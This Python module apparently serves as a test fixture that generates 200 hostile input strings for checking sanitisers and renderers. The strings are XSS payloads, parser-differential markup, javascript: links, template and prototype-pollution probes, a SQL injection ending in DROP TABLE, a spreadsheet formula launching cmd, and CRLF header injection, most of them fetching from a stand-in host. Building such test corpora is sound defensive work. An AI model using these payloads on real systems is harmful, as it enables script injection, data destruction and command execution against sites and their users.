"""Two hundred texts that somebody hostile might type: what breaks out, what would then run, and the places it aims at.

Each has a number, and shows by it that something ran: it calls `hostile(number)`, asks for an address of its own at
HOST, sets a cookie, or writes the word RAN, which no text contains as it was typed.
"""

HOST = "hostile.example"
RAN = "hostile-ran"  # in pages, cookies and messages: an expression was worked out
ELEMENT = "hostile-markup"  # an element of this name that stands in a page was a text before
COUNT = 200

# What runs, or fetches, once it is markup: {call} and {address} are put in, with the number.
_MARKUP = (
    "<script>{call}</script>",
    "<script src={address}></script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    "<iframe src=javascript:parent.{call}></iframe>",
    "<base href={address}/>",
    '<meta http-equiv=refresh content="0;url={address}">',
    "<form action={address}><button autofocus onfocus={call}>Send</button></form>",
    "<style>@import '{address}';</style>",
    "<link rel=stylesheet href={address}>",
    "<details open ontoggle={call}><summary>More</summary></details>",
    "<object data={address}></object>",
    "<video><source onerror={call}></video>",
    "<hostile-markup hx-get={address} hx-trigger=load hx-on:htmx:load={call}></hostile-markup>",
)
# Where it stands at first, and what closes that.
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title></style></noscript>{}",
    "</script>{}",
    "-->{}<!--",
    "]]>{}<![CDATA[",
)
# Attributes of the element that the text stands in, behind each quote.
_ATTRIBUTES = (
    "autofocus tabindex=0 onfocus={call}",
    "hx-get={address} hx-trigger=load",
    "hx-on:htmx:load={call}",
    "hx-vals=js:x:{call} hx-trigger=load hx-post={address}",
    "style=background:url({address})",
    "srcset={address} src={address}",
)
_QUOTES = ('" {} x="', "' {} x='")
_LINKS = (
    "javascript:{call}",
    "\x01java\nscript:{call}",
    "data:text/html,<script>opener.{call}</script>",
    "vbscript:{call}",
    "javascript://%0a{call}",
    "JaVa&Tab;ScRiPt&colon;{call}",  # a link only where entities are decoded
)
_AS_LINKS = ("{}", "[Read it]({})", "![A picture]({})", "[Read it][x{n}]\n\n[x{n}]: <{}>")
# Each on its own.
_OTHERS = (
    # Markdown around HTML, and HTML around Markdown
    "[<img src=x onerror={call}>](<{address}\" onmouseover=\"{call}>)",
    "[x](https:{address} '\" autofocus onfocus={call} \"')",
    "<https:{address}\"onfocus={call}//>",
    "~~~ \"><img src=x onerror={call}>\n~~~",
    "| a |\n|---|\n| <svg onload={call}> `</td><script>{call}</script>` |",
    "> # <img src=x onerror={call}>\n1. - *<script>{call}</script>*",
    # what two parsers read differently
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={call}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror={call}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={call}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={call}>",
    "<<script>{call};//<</script>",
    "<img/src=`x`onerror={call}>",
    "<img src=x onerror\x0b\x0c= {call}",
    "<hostile-markup/x=\"&quot;><script>{call}</script>",
    # encoded once, and twice
    "&lt;img src=x onerror={call}&gt;",
    "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "&#60;svg onload=&#x68;ostile({n})&#62;",
    "\\u003cimg src=x onerror={call}\\u003e",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    # out of strings of scripts and data
    "\";{call};//",
    "';{call};//</script><script>{call}</script>",
    "\\\";{call};//\u2028{call}\u2029",
    "`${{{call}}}`",
    "\"}}]}}, {{\"__proto__\": {{\"hostile\": {n}}}}}",
    # templates, formats, statements
    "{{{{ 'hostile-'|add:'ran' }}}}{{% load hostile %}}{{% csrf_token %}}",
    "{{{{ 'hostile-' ~ 'ran' }}}}${{'hostile-'+'ran'}}<%= 'hostile-'+'ran' %>",
    "%s %(hostile)s %d %n {{0.__class__.__init__.__globals__}} {{hostile}} {{}}",
    "' UNION SELECT 'hostile-' || 'ran'; DROP TABLE portal_event; --",
    # style sheets, tables, headers
    "color:red;background:url({address});width:expression({call});}}*{{content:url({address})}}",
    "=HYPERLINK(\"https:{address}\",\"x\")&'hostile-'&'ran'",
    "@SUM(1)*cmd|' /C calc'!A{n}",
    "Subject\r\nSet-Cookie: hostile={n}\r\n\r\n<script>{call}</script>",
    # what is not seen, what is long
    "\u202e<img src=x onerror={call}>\u202c\u2066\u2069\u200b\u200d\ufeff\u00ad",
    "Z\u0335\u0321\u034f" + "\u0301\u0489" * 40 + "<script>{call}</script>\U000e0041",
    "w" * 700 + "<img src=x onerror={call}>" + "\u00a0" * 40,
)  # fmt: skip


def _shapes() -> list[str]:
    """Before anything is put in: {call}, {address} and {n} are still there."""
    return [
        *(around.replace("{}", markup) for around in _AROUND for markup in _MARKUP),
        *(quotes.replace("{}", attribute) for quotes in _QUOTES for attribute in _ATTRIBUTES),
        *(way.replace("{}", link) for way in _AS_LINKS for link in _LINKS),
        *_OTHERS,
    ]


STRINGS = tuple(
    shape.format(call=f"hostile({number})", address=f"//{HOST}/{number}", n=number)
    for number, shape in enumerate(_shapes())
)


def in_order(start: int, step: int = 1) -> tuple[str, ...]:
    """All of them, from one on; with another step, which has no divisor in common with COUNT, in another order."""
    return tuple(STRINGS[(start + place * step) % COUNT] for place in range(COUNT))


def that_fit(length: int, start: int) -> str:
    """As many as a field of this length takes, from one on; a piece of one where none is so short."""
    text = ""
    for hostile in in_order(start):
        if len(text) + len(hostile) + 1 <= length:
            text = f"{text} {hostile}" if text else hostile
    return text or STRINGS[start % COUNT][:length]
